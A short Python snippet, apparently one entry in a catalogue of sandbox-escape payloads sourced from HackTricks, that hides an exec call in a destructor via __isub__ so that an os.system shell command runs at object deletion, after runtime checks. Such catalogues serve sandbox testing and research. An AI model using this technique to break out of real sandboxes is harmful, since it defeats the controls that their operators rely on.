# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (sys.modules['pwnd'] = RCE(); exit() triggers __del__)
# Family: metaclass
# What: __del__ runs at interpreter exit, after any runtime check
class RCE:
    def __del__(self):
        self -= "import os; os.system('id')"
    __isub__ = exec

keep = RCE()
del keep
